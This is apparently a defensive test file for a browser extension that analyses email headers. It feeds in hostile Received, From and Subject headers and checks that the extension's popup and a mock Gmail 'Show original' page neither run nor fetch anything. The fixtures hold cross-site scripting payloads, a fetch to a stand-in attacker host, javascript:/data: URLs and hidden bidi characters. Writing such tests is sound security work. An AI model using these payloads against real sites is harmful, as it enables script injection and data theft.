// Hostile headers in Chromium (issue 7): pasted into the popup and served as a Gmail "Show original" page.
// Markup, scripts, javascript: and data: URLs, `</pre>` breakouts, entities, bidi overrides and zero-width
// characters in host names, 10,000-character tokens. Nothing may be injected or run, nothing requested,
// the layout must stay usable, and hidden characters in hosts must be shown and flagged.
import { describe, expect, it } from 'vitest';
import { badgeOf, chromiumForThisFile, foreignRequests, openPopup, pasteAndAnalyze, serve, tabIdOfNewPage, unexpectedSinkTraffic, verdictOf } from './chromium.js';
import { POLL, SUITE_TIMEOUT, screenshotPath, htmlText } from './env.js';

const LONG = 'A'.repeat(10_000);
const EVIL = [
  `Received: from <img src=x onerror="window.__pwned=1;fetch('https://attacker.example/i')">.example (pay\u202Elap.example [192.0.2.66]) by mx.example.com (Postfix) with ESMTPS id <script>window.__pwned=2</script>; Mon, 06 Jan 2025 19:49:50 +0100`,
  `Received: from a</pre><script>window.__pwned=3</script><pre> (exam\u200Bple.com [192.0.2.67]) (using TLSv1.3 with cipher javascript:alert(1) (256/256 bits)) by relay.example.net (data:text/html,<script>alert(4)</script>) with ESMTP id &lt;b&gt;x&#60;/b&gt; for <"<svg onload=window.__pwned=5>"@evil.example>; Mon, 06 Jan 2025 19:49:40 +0100`,
  `Received: from ${LONG}.example (h${LONG} [192.0.2.68]) by relay.example.net with SMTP id ${LONG}; Mon, 06 Jan 2025 19:49:30 +0100`,
  'From: "<b onmouseover=alert(6)>" <a@example.org>',
  'Subject: =?UTF-8?B?PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==?=',
  '',
  '',
].join('\n');

const s = chromiumForThisFile();

async function expectSafe(page: import('playwright-core').Page): Promise<void> {
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  // Only the popup's own elements: no image, script, iframe, object, svg other than its icons and the delivery
  // timeline (timeline.ts, whose text is ours), no link to javascript:/data:.
  expect(await page.locator('img:not(.top img), script:not([type=module]), iframe, object, embed, svg:not(.icon):not(.timeline), a[href^="javascript:"], a[href^="data:"], [onerror], [onload], [onmouseover]').count()).toBe(0);
  // The layout stays usable: 10,000-character tokens wrap instead of widening the page.
  expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBeLessThanOrEqual(1);
  // Hidden characters in hosts are shown and flagged.
  await expect.poll(() => page.locator('[data-testid=hop] .route').allTextContents(), POLL).toEqual(expect.arrayContaining([expect.stringContaining('pay⟨U+202E⟩lap.example')]));
  expect(await page.locator('.chip.bad', { hasText: 'Hidden or direction-changing characters' }).count()).toBeGreaterThan(0);
}

describe('Chromium: hostile headers', { timeout: SUITE_TIMEOUT }, () => {
  it('pasted into the popup: shown as text, nothing runs, layout usable, hidden characters flagged', async () => {
    const b = await s();
    const page = await openPopup(b);
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await pasteAndAnalyze(page, EVIL);
    await expect.poll(() => page.locator('[data-testid=hop]').count(), POLL).toBe(3);
    await expectSafe(page);
    expect(await page.locator('[data-testid=hop]').last().textContent()).toContain('onerror=');
    await page.screenshot({ path: screenshotPath('popup-hostile.png'), fullPage: true });
    expect(dialogs).toEqual([]);
    await page.close();
  });

  it('served as a Gmail "Show original" page: the badge and the popup show it safely', async () => {
    const b = await s();
        await serve(b, /^https:\/\/mail\.google\.com\/mail\/u\/3\//, 'text/html; charset=utf-8', `<!doctype html><link rel="icon" href="data:,"><title>Original Message</title><pre id="raw_message_text" class="raw_message_text">${htmlText(EVIL)}</pre>`);
    const { tabId, page: tab } = await tabIdOfNewPage(b, async () => {
      const p = await b.ctx.newPage();
      await p.goto('https://mail.google.com/mail/u/3/?ik=1&view=om&permmsgid=msg-f:1');
      return p;
    });
    await expect.poll(async () => (await badgeOf(b, tabId)).text, POLL).not.toBe('');
    expect((await badgeOf(b, tabId)).title).toMatch(/^Hoplock: /);
    const popup = await openPopup(b, tabId);
    await expect.poll(() => verdictOf(popup), POLL).not.toBeNull();
    await expectSafe(popup);
    expect(await tab.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    await popup.close();
    await tab.close();
  });

  it('made no request: the attacker URLs in the headers were never fetched', async () => {
    const b = await s();
    expect(b.requests.some((u) => u.includes('attacker.example'))).toBe(false);
    expect(foreignRequests(b)).toEqual({ requests: [], aborted: [] });
    expect(unexpectedSinkTraffic(b)).toEqual([]);
  });
});
